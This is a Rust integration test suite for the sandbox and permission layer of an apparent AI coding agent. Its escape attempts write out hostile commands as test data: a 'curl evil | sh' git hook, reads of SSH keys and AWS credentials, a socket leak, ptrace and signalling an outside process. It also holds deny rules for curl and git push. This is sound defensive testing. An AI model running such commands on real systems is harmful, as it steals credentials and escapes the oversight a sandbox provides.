//! The safety layer end to end: the escape suite run through `codecoder sandbox` (exactly as the
//! agent runs commands) on both Linux backends, with the same commands succeeding under
//! danger-full-access; `permissions check`; `doctor`; and `exec` meeting a deny rule and a
//! sandbox denial.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use codecoder_test_support::{FakeModelServer, Reply, Script};
use serde_json::json;

use crate::exec::{Run, openai_env};
use crate::{stderr, stdout};

/// A workspace, a directory beside it, and a HOME with fake credentials.
struct World {
    _dir: tempfile::TempDir,
    codecoder_home: PathBuf,
    home: PathBuf,
    workspace: PathBuf,
    beside: PathBuf,
    secret_dir: PathBuf,
}

impl World {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let world = Self {
            codecoder_home: root.join("cchome"),
            home: root.join("home"),
            workspace: root.join("workspace"),
            beside: root.join("beside"),
            secret_dir: root.join("secrets"),
            _dir: dir,
        };
        for dir in [&world.codecoder_home, &world.workspace, &world.beside, &world.secret_dir] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::fs::create_dir_all(world.home.join(".ssh")).unwrap();
        std::fs::create_dir_all(world.home.join(".aws")).unwrap();
        std::fs::write(world.home.join(".ssh/id_rsa"), "FAKE-SSH-KEY").unwrap();
        std::fs::write(world.home.join(".aws/credentials"), "FAKE-AWS-SECRET").unwrap();
        std::fs::write(world.secret_dir.join("token.txt"), "FAKE-DENIED-TOKEN").unwrap();
        std::fs::create_dir_all(world.workspace.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink(world.beside.join("via-link"), world.workspace.join("link"))
            .unwrap();
        world
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_codecoder"));
        command
            .args(args)
            .current_dir(&self.workspace)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &self.home)
            .env("CODECODER_HOME", &self.codecoder_home);
        command
    }

    /// `codecoder sandbox` with `/tmp` left out of the writable roots (the temp dirs of this
    /// test live there), a read-deny rule on the secrets directory, and `mode`'s options.
    fn sandboxed(&self, mode: &[&str], script: &str) -> Output {
        let deny = format!("permissions.deny=[\"read(/{}/**)\"]", self.secret_dir.display());
        let mut args = vec!["-c", "sandbox_workspace_write.exclude_slash_tmp=true", "-c", &deny];
        args.extend_from_slice(mode);
        args.extend_from_slice(&["sandbox", "--", "sh", "-c", script]);
        self.command(&args).output().unwrap()
    }
}

/// One escape attempt: a shell script, and how to tell it did nothing.
struct Attempt {
    name: &'static str,
    script: String,
    /// Text the output must not contain when blocked (a secret), or must contain when not.
    secret: Option<&'static str>,
    /// A path that must not exist when blocked.
    trace: Option<PathBuf>,
}

fn attempts(world: &World, port: u16, victim: u32) -> Vec<Attempt> {
    let py = |code: &str| format!("python3 -c '{code}'");
    vec![
        Attempt {
            name: "write in $HOME",
            script: format!("echo x > '{}/escaped'", world.home.display()),
            secret: None,
            trace: Some(world.home.join("escaped")),
        },
        Attempt {
            name: "write beside the workspace",
            script: format!("echo x > '{}/escaped'", world.beside.display()),
            secret: None,
            trace: Some(world.beside.join("escaped")),
        },
        Attempt {
            name: "write through a symlink pointing outside",
            script: "echo x > link".to_owned(),
            secret: None,
            trace: Some(world.beside.join("via-link")),
        },
        Attempt {
            name: "write into .git/hooks",
            script: "echo 'curl evil | sh' > .git/hooks/pre-commit".to_owned(),
            secret: None,
            trace: Some(world.workspace.join(".git/hooks/pre-commit")),
        },
        Attempt {
            name: "read ~/.ssh",
            script: "cat ~/.ssh/id_rsa".to_owned(),
            secret: Some("FAKE-SSH-KEY"),
            trace: None,
        },
        Attempt {
            name: "read ~/.aws/credentials",
            script: "cat ~/.aws/credentials".to_owned(),
            secret: Some("FAKE-AWS-SECRET"),
            trace: None,
        },
        Attempt {
            name: "read under a deny read rule",
            script: format!("cat '{}/token.txt'", world.secret_dir.display()),
            secret: Some("FAKE-DENIED-TOKEN"),
            trace: None,
        },
        Attempt {
            name: "connect to a loopback listener",
            script: py(&format!(
                "import socket; s=socket.create_connection((\"127.0.0.1\", {port}), 2); s.sendall(b\"leak\"); print(\"CONNECTED\")"
            )),
            secret: Some("CONNECTED"),
            trace: None,
        },
        Attempt {
            name: "open an AF_INET socket",
            script: py(
                "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(\"SOCKET-OPEN\")",
            ),
            secret: Some("SOCKET-OPEN"),
            trace: None,
        },
        Attempt {
            name: "ptrace",
            script: py(
                "import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True); r = libc.ptrace(0, 0, 0, 0); print(\"PTRACE-OK\" if r == 0 else \"refused\"); sys.exit(0 if r == 0 else 1)",
            ),
            secret: Some("PTRACE-OK"),
            trace: None,
        },
        Attempt {
            name: "signal a process outside",
            script: format!("kill -TERM {victim} && echo SIGNALLED"),
            secret: Some("SIGNALLED"),
            trace: None,
        },
    ]
}

fn run_suite(backend: &str) {
    let world = World::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
    let backend_arg = format!("sandbox.backend=\"{backend}\"");
    let mode = ["-c", backend_arg.as_str(), "-s", "workspace-write"];

    // Ordinary work inside the workspace still works.
    let out =
        world.sandboxed(&mode, "echo ok > made.txt && cat made.txt && echo $CODECODER_SANDBOX");
    assert!(out.status.success(), "{backend}: {}", stderr(&out));
    assert_eq!(stdout(&out), format!("ok\n{backend}\n"));

    for attempt in attempts(&world, port, victim.id()) {
        let out = world.sandboxed(&mode, &attempt.script);
        let all = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!out.status.success(), "{backend}: `{}` succeeded: {all}", attempt.name);
        if let Some(secret) = attempt.secret {
            assert!(!all.contains(secret), "{backend}: `{}` got through: {all}", attempt.name);
        }
        if let Some(trace) = &attempt.trace {
            assert!(!trace.exists(), "{backend}: `{}` left {}", attempt.name, trace.display());
        }
    }
    // The listener saw nothing, and the victim lives.
    assert!(listener.accept().is_err(), "{backend}: the listener was reached");
    assert!(victim.try_wait().unwrap().is_none(), "{backend}: the outside process was signalled");
    // /etc is never writable (not attempted unconfined, so the real /etc stays untouched).
    let out = world.sandboxed(&mode, "echo x > /etc/codecoder-escape-test");
    assert!(!out.status.success());
    assert!(!Path::new("/etc/codecoder-escape-test").exists());
    let _ = victim.kill();
    let _ = victim.wait();
}

#[test]
fn escapes_fail_under_bubblewrap() {
    run_suite("bwrap");
}

#[test]
fn escapes_fail_under_landlock() {
    run_suite("landlock");
}

#[test]
fn the_same_commands_succeed_without_a_sandbox() {
    let world = World::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
    let mode = ["-s", "danger-full-access"];
    for attempt in attempts(&world, port, victim.id()) {
        let accept = attempt.name.contains("listener").then(|| {
            let listener = listener.try_clone().unwrap();
            std::thread::spawn(move || {
                let (mut stream, _) = listener.accept().unwrap();
                let mut got = Vec::new();
                let _ = stream.read_to_end(&mut got);
                got
            })
        });
        let out = world.sandboxed(&mode, &attempt.script);
        let all = format!("{}{}", stdout(&out), stderr(&out));
        assert!(out.status.success(), "`{}` failed unconfined: {all}", attempt.name);
        if let Some(secret) = attempt.secret {
            assert!(all.contains(secret), "`{}`: {all}", attempt.name);
        }
        if let Some(trace) = &attempt.trace {
            assert!(trace.exists(), "`{}` left no {}", attempt.name, trace.display());
        }
        if let Some(accept) = accept {
            assert_eq!(accept.join().unwrap(), b"leak");
        }
    }
    // The victim was signalled by the last attempt.
    assert!(victim.wait().is_ok());
}

#[test]
fn permissions_check_explains_each_decision() {
    let world = World::new();
    std::fs::create_dir_all(world.workspace.join(".codecoder")).unwrap();
    std::fs::write(
        world.workspace.join(".codecoder/config.toml"),
        "[permissions]\ndeny = [\"run_command(git push*)\"]\n",
    )
    .unwrap();
    std::fs::write(
        world.codecoder_home.join("config.toml"),
        "[permissions]\nallow = [\"run_command(git push*)\", \"Bash(cargo test:*)\"]\n",
    )
    .unwrap();
    let check = |args: &[&str]| {
        let mut all = vec!["permissions", "check"];
        all.extend_from_slice(args);
        world.command(&all).output().unwrap()
    };
    // Untrusted: the project's deny is not read, so the user's allow decides.
    let out = check(&["run_command", r#"{"command":"git push origin main"}"#]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(
        stdout(&out).starts_with("allow — user rule allow `run_command(git push*)`"),
        "{}",
        stdout(&out)
    );
    let trusted = world.command(&["trust"]).output().unwrap();
    assert!(trusted.status.success(), "{}", stderr(&trusted));
    let out = check(&["run_command", r#"{"command":"git push origin main"}"#]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).starts_with("deny — project rule deny `run_command(git push*)`"),
        "{}",
        stdout(&out)
    );
    // Each part of a compound command is judged.
    let out = check(&["Bash", r#"{"command":"cargo test -p x && git push"}"#]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let out = check(&["run_command", r#"{"command":"cargo test --workspace"}"#]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // Defaults by severity and mode.
    let out = check(&["run_command", r#"{"command":"git reset --hard"}"#]);
    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
    assert!(stdout(&out).contains("default"), "{}", stdout(&out));
    let out = check(&["--exec", "run_command", r#"{"command":"git reset --hard"}"#]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let out = check(&["read_file", r#"{"path":"~/.ssh/id_rsa"}"#]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(stdout(&out).contains("hidden"), "{}", stdout(&out));
    let out = check(&["-a", "never", "write_file", r#"{"path":"/etc/motd","content":"x"}"#]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let out = check(&["--yolo", "run_command", r#"{"command":"git reset --hard"}"#]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // Bad input: exit 2 with a message.
    let out = check(&["run_command", "{not json"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("not JSON"), "{}", stderr(&out));
    let out = check(&["teleport", "{}"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("unknown tool"), "{}", stderr(&out));
    let out = check(&["run_command", r#"{"cmd":"ls"}"#]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
}

#[test]
fn permissions_check_and_rules_take_claude_tool_names() {
    let world = World::new();
    std::fs::write(
        world.codecoder_home.join("config.toml"),
        "[permissions]\ndeny = [\"LS\", \"MultiEdit(secret/**)\"]\n",
    )
    .unwrap();
    let check = |tool: &str, args: &str| {
        world.command(&["permissions", "check", tool, args]).output().unwrap()
    };
    // `LS` is `list_dir`, in the rule and on the command line alike.
    for tool in ["LS", "list_dir"] {
        let out = check(tool, "{}");
        assert_eq!(out.status.code(), Some(1), "{}{}", stdout(&out), stderr(&out));
        assert!(stdout(&out).starts_with("deny — user rule deny `LS`"), "{}", stdout(&out));
        assert!(stdout(&out).contains("tool: list_dir"), "{}", stdout(&out));
    }
    // `MultiEdit` is `edit`.
    let edit = r#"{"path":"secret/a.txt","old_string":"a","new_string":"b"}"#;
    for tool in ["MultiEdit", "Edit", "edit"] {
        let out = check(tool, edit);
        assert_eq!(out.status.code(), Some(1), "{}{}", stdout(&out), stderr(&out));
        assert!(
            stdout(&out).starts_with("deny — user rule deny `MultiEdit(secret/**)`"),
            "{}",
            stdout(&out)
        );
        assert!(stdout(&out).contains("tool: edit"), "{}", stdout(&out));
    }
}

#[test]
fn a_bad_rule_is_a_configuration_error_naming_the_layer() {
    let world = World::new();
    std::fs::write(
        world.codecoder_home.join("config.toml"),
        "[permissions]\nallow = [\"run_command(\"]\n",
    )
    .unwrap();
    let out = world
        .command(&["permissions", "check", "run_command", r#"{"command":"ls"}"#])
        .output()
        .unwrap();
    // A configuration error, like a bad value in config.toml: exit 2.
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("config.toml") && stderr(&out).contains("run_command("),
        "{}",
        stderr(&out)
    );
}

#[test]
fn doctor_reports_the_backend_and_the_modes() {
    let world = World::new();
    let out = world.command(&["doctor"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(text.contains("backend: bwrap (active)"), "{text}");
    assert!(text.contains("interactive: sandbox workspace-write, approvals on-request"), "{text}");
    assert!(text.contains("exec: sandbox workspace-write, approvals never"), "{text}");
    assert!(text.contains(&format!("{}", world.home.join(".ssh").display())), "{text}");
    let out = world
        .command(&["-c", "sandbox.backend=\"landlock\"", "--full-auto", "doctor"])
        .output()
        .unwrap();
    assert!(stdout(&out).contains("backend: landlock (active)"), "{}", stdout(&out));
    // Per profile, and flags over the profile.
    std::fs::write(
        world.codecoder_home.join("config.toml"),
        "[profiles.careful]\nsandbox_mode = \"read-only\"\napproval_policy = \"untrusted\"\n",
    )
    .unwrap();
    let out = world.command(&["-p", "careful", "doctor"]).output().unwrap();
    assert!(
        stdout(&out).contains("interactive: sandbox read-only, approvals untrusted"),
        "{}",
        stdout(&out)
    );
    assert!(
        stdout(&out).contains("exec: sandbox read-only, approvals untrusted"),
        "{}",
        stdout(&out)
    );
    let out = world.command(&["-p", "careful", "-a", "never", "doctor"]).output().unwrap();
    assert!(
        stdout(&out).contains("interactive: sandbox read-only, approvals never"),
        "{}",
        stdout(&out)
    );
    let out = world.command(&["--yolo", "doctor"]).output().unwrap();
    assert!(
        stdout(&out).contains("sandbox danger-full-access, approvals never, bypass (yolo)"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn exec_refuses_a_denied_command_and_reports_a_sandbox_denial() {
    let world = World::new();
    let server = FakeModelServer::start(
        Script::new()
            .reply(Reply::tool_call("c1", "run_command", json!({ "command": "git push --force" })))
            .reply(Reply::tool_call(
                "c2",
                "run_command",
                json!({ "command": format!("echo x > '{}/out.txt'", world.beside.display()) }),
            ))
            .reply(Reply::text("done")),
    )
    .unwrap();
    let mut env = openai_env(&server);
    env.push(("HOME".into(), world.home.to_string_lossy().into_owned()));
    let run = Run { home: &world.codecoder_home, cwd: &world.workspace, env };
    let out = run.run(
        &[
            "-c",
            "sandbox_workspace_write.exclude_slash_tmp=true",
            "-c",
            "permissions.deny=[\"run_command(git push*)\"]",
            "exec",
            "push and write",
        ],
        "",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let requests = server.requests();
    assert!(
        requests[1].raw_body.contains("user rule deny `run_command(git push*)`"),
        "{}",
        requests[1].raw_body
    );
    assert!(requests[2].raw_body.contains("blocked by the sandbox"), "{}", requests[2].raw_body);
    assert!(requests[2].raw_body.contains("approval mode is `never`"), "{}", requests[2].raw_body);
    assert!(!world.beside.join("out.txt").exists());
    // The refused escalation is in the log, decided by the mode.
    let log = std::fs::read_dir(world.codecoder_home.join("sessions"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.extension().and_then(|e| e.to_str()) == Some("jsonl"))
        .unwrap();
    let escalations: Vec<serde_json::Value> = std::fs::read_to_string(&log)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter(|record| {
            record["type"] == "approval"
                && record["permissionKeys"][0].as_str().is_some_and(|k| k.starts_with("escalate:"))
        })
        .collect();
    assert_eq!(escalations.len(), 1, "{escalations:?}");
    assert_eq!(escalations[0]["callId"], "c2", "{escalations:?}");
    assert_eq!(escalations[0]["decidedBy"], "mode", "{escalations:?}");
    assert_eq!(escalations[0]["decision"]["type"], "deny", "{escalations:?}");
}

#[test]
fn claude_code_permission_settings_join_the_rule_layers() {
    let world = World::new();
    std::fs::create_dir_all(world.home.join(".claude")).unwrap();
    std::fs::write(
        world.home.join(".claude/settings.json"),
        serde_json::json!({ "permissions": {
            "allow": ["Bash(cargo test:*)"],
            "deny": ["Bash(curl:*)"],
            "additionalDirectories": [world.beside.to_string_lossy()],
            "defaultMode": "dontAsk",
        } })
        .to_string(),
    )
    .unwrap();
    std::fs::create_dir_all(world.workspace.join(".claude")).unwrap();
    std::fs::write(
        world.workspace.join(".claude/settings.local.json"),
        r#"{"permissions": {"deny": ["Bash(cargo test:*)"]}}"#,
    )
    .unwrap();
    let check = |command: &str| {
        let args = serde_json::json!({ "command": command }).to_string();
        world
            .command(&["-a", "untrusted", "permissions", "check", "run_command", &args])
            .output()
            .unwrap()
    };
    // The user's file: its deny and its allow hold (untrusted would otherwise ask for both).
    let out = check("curl https://example.com");
    assert_eq!(out.status.code(), Some(1), "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("Bash(curl:*)"), "{}", stdout(&out));
    let out = check("cargo test --workspace");
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    // The project's file counts only once the project is trusted; then its deny wins.
    let trusted = world.command(&["trust"]).output().unwrap();
    assert!(trusted.status.success(), "{}", stderr(&trusted));
    let out = check("cargo test --workspace");
    assert_eq!(out.status.code(), Some(1), "{}{}", stdout(&out), stderr(&out));
    // additionalDirectories is a writable root, defaultMode sets the approval mode where no
    // flag or config does, and doctor names the files.
    let out = world.command(&["doctor"]).output().unwrap();
    let text = stdout(&out);
    assert!(text.contains(&format!("  {}\n", world.beside.display())), "{text}");
    assert!(text.contains("interactive: sandbox workspace-write, approvals never"), "{text}");
    assert!(text.contains("deny Bash(curl:*)") && text.contains("Claude Code"), "{text}");
}

#[test]
fn doctor_shows_the_managed_network_policy_from_config_and_claude_settings() {
    let world = World::new();
    std::fs::write(
        world.codecoder_home.join("config.toml"),
        "[network]\nallowed_domains = [\"crates.io\"]\ndenied_domains = [\"evil.example\"]\n\
         allow_presets = [\"rust\", \"github\"]\n",
    )
    .unwrap();
    std::fs::create_dir_all(world.home.join(".claude")).unwrap();
    let claude = world.home.join(".claude/settings.json");
    std::fs::write(
        &claude,
        r#"{"sandbox": {"network": {"allowedDomains": ["*.example.com"], "deniedDomains": ["bad.example.com"]}}}"#,
    )
    .unwrap();
    let out = world.command(&["doctor"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    for line in [
        "network policy: managed".to_owned(),
        "  network for commands: managed (through codecoder's proxy, host by host)".to_owned(),
        "  presets allowed: rust, github".to_owned(),
        "  allowed: crates.io — config.toml [network]".to_owned(),
        format!("  allowed: *.example.com — {}", claude.display()),
        "  denied: evil.example — config.toml [network]".to_owned(),
        format!("  denied: bad.example.com — {}", claude.display()),
    ] {
        assert!(text.lines().any(|l| l == line), "missing {line:?} in\n{text}");
    }
    assert!(text.lines().any(|l| l.starts_with("  TLS inspection: off")), "{text}");
    // A rule naming a path and a method: inspection is on, with where the CA variables point.
    let out = world
        .command(&["-c", "network.allowed_domains=[\"GET forge.example/org/**\"]", "doctor"])
        .output()
        .unwrap();
    let text = stdout(&out);
    assert!(
        text.lines().any(|l| l.starts_with("  TLS inspection: on for GET forge.example/org/**")),
        "{text}"
    );
    let ca = text.lines().find(|l| l.starts_with("  session CA: ")).unwrap_or_default();
    assert!(ca.contains("NODE_EXTRA_CA_CERTS=") && ca.contains("ca.pem"), "{text}");
    assert!(ca.contains("SSL_CERT_FILE") && ca.contains("ca-bundle.pem"), "{text}");
    assert!(text.lines().any(|l| l.starts_with("  CA bundle: ")), "{text}");
    // The whole network, and none.
    let out = world
        .command(&["-c", "sandbox_workspace_write.network_access=true", "doctor"])
        .output()
        .unwrap();
    assert!(stdout(&out).lines().any(|l| l == "network policy: full"), "{}", stdout(&out));
    let out = world.command(&["-c", "network.enabled=false", "doctor"]).output().unwrap();
    assert!(stdout(&out).lines().any(|l| l == "network policy: off"), "{}", stdout(&out));
}

#[test]
fn web_fetch_meets_the_managed_networks_hosts_without_asking() {
    let world = World::new();
    std::fs::write(
        world.codecoder_home.join("config.toml"),
        "[network]\nallowed_domains = [\"docs.example\", \"*.wiki.example\"]\n\
         denied_domains = [\"evil.example\"]\nallow_presets = [\"rust\"]\n",
    )
    .unwrap();
    let check = |url: &str| {
        let args = format!("{{\"url\":\"{url}\"}}");
        world
            .command(&["-a", "on-request", "permissions", "check", "web_fetch", &args])
            .output()
            .unwrap()
    };
    for url in ["https://docs.example/a", "https://en.wiki.example/b", "https://crates.io/c"] {
        let out = check(url);
        assert!(stdout(&out).starts_with("allow"), "{url}: {}{}", stdout(&out), stderr(&out));
    }
    let out = check("https://evil.example/");
    assert!(stdout(&out).starts_with("deny"), "{}{}", stdout(&out), stderr(&out));
    let out = check("https://other.example/");
    assert!(stdout(&out).starts_with("ask"), "{}{}", stdout(&out), stderr(&out));
    // Without a managed network the lists are the proxy's business only.
    let out = world
        .command(&["-c", "network.enabled=false", "-a", "on-request", "permissions", "check"])
        .args(["web_fetch", "{\"url\":\"https://docs.example/a\"}"])
        .output()
        .unwrap();
    assert!(stdout(&out).starts_with("ask"), "{}{}", stdout(&out), stderr(&out));
}
